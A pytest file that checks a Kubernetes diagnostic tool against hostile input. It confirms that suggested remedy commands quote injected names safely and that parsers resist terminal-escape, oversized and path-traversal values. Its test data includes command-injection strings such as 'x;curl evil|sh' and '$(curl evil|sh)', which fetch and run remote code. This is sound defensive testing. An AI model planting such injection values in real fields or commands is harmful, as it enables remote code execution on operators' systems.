"""Objects and pages made to spoil a terminal, to stall the command, or to be pasted into a shell."""

from __future__ import annotations

import shlex
import time
from dataclasses import replace

import msgspec
import pytest

from epp.doctor.finding import Finding
from epp.doctor.flags_written import written
from epp.doctor.objects import Deployment
from epp.doctor.pages import engine_page, picker_page
from epp.doctor.rules import examine
from epp.doctor.rules_engines import cpu_cache_bytes
from epp.doctor.snapshot import Snapshot, config_map_of
from tests.doctor.snapshots import HEALTHY, NAMESPACE, engine, picker, picker_pod

GIB = 1 << 30
EVIL = "x;curl evil|sh;-1"


def found(cause: str, **changes: object) -> list[Finding]:
    """Return the findings of one cause in the healthy installation after ``changes``."""
    return [one for one in examine(replace(HEALTHY, **changes)) if one.cause == cause]  # type: ignore[arg-type]


def test_a_page_with_a_label_without_end_stalls_nothing() -> None:
    began = time.monotonic()
    engine_page(b"vllm:x{" + b"a" * 1_000_000 + b"} 1\n")
    assert time.monotonic() - began < 1.0


@pytest.mark.parametrize("text", ["²", "9" * 5000, "-1", "nan"])
def test_numbers_of_a_page_that_are_none_are_unknown(text: str) -> None:
    assert picker_page(200, f"ready\nrequests={text}".encode()).requests is None


@pytest.mark.parametrize(
    "words",
    [
        ("--swap-space", "²"),
        ("--swap-space", "9" * 400),
        ("--kv-transfer-config", "[" * 100_000),
        ("--kv-transfer-config", '{"kv_connector_extra_config":{"max_local_cpu_size":1e308}}'),
        ("--kv-transfer-config", '{"kv_connector_extra_config":{"cpu_bytes_to_use":"' + "9" * 400 + '"}}'),
    ],
    ids=["digit", "long", "deep", "infinite", "bytes"],
)
def test_sizes_of_caches_that_are_none_are_unknown(words: tuple[str, ...]) -> None:
    assert cpu_cache_bytes(written(words)) is None


def test_a_port_that_is_no_number_is_the_default() -> None:
    assert next(iter(replace(HEALTHY, deployments=(picker("--metrics-port=²"),)).pickers())).metrics_port == 9090


def test_an_annotation_spoils_no_terminal_and_fills_no_screen() -> None:
    text = "\x1b[2J\x9b31m\u202e" + "\n7" + "9" * 1_000_000
    pod = engine("engine-0", annotations={"llm-d.ai/active-ports": text})
    (one,) = found("active-ports-unknown", pods=(pod, picker_pod()))
    assert one.text.isprintable()
    assert len(one.text) < 1000


def test_a_fault_of_ten_thousand_pods_is_twenty_findings_and_their_number() -> None:
    bad = [engine(f"engine-{index}", annotations={"llm-d.ai/active-ports": "1"}) for index in range(10_000)]
    shown = found("active-ports-unknown", pods=(*bad, picker_pod()))
    assert len(shown) == 21
    assert "9,980" in shown[-1].object


def owned_by(name: str) -> dict[str, object]:
    return {"ownerReferences": [{"kind": "ReplicaSet", "name": name}]}


def test_a_name_of_an_owner_is_one_word_of_the_command() -> None:
    cache = '--kv-transfer-config={"kv_connector":"O","kv_connector_extra_config":{"cpu_bytes_to_use":%d}}'
    pod = engine("engine-0", cache % (100 * GIB), **owned_by(EVIL))
    (one,) = found("cache-above-memory", pods=(pod, picker_pod()))
    assert "deployment/x;curl evil|sh;" in shlex.split(one.remedy)


def test_an_image_is_one_word_of_the_command() -> None:
    (one,) = found("image-differs-from-chart", deployments=(picker(image="$(curl evil|sh)/tierwise:0.0.9"),))
    assert "epp=$(curl evil|sh)/tierwise:0.1.0" in shlex.split(one.remedy)
    assert "'epp=$(curl evil|sh)/tierwise:0.1.0'" in one.remedy


def test_a_flag_is_one_word_of_the_command() -> None:
    (one,) = found("boolean-in-two-words", deployments=(picker("--$(curl evil|sh)", "false"),))
    assert "'--$(curl evil|sh)=false'" in one.remedy


def test_a_config_map_whose_name_is_a_path_is_not_read() -> None:
    raw = msgspec.to_builtins(picker())
    raw["spec"]["template"]["spec"]["volumes"][0]["configMap"]["name"] = "../secrets/root"
    snapshot = Snapshot(namespace=NAMESPACE, deployments=(msgspec.convert(raw, Deployment),))
    assert config_map_of(snapshot.pickers()[0]) is None
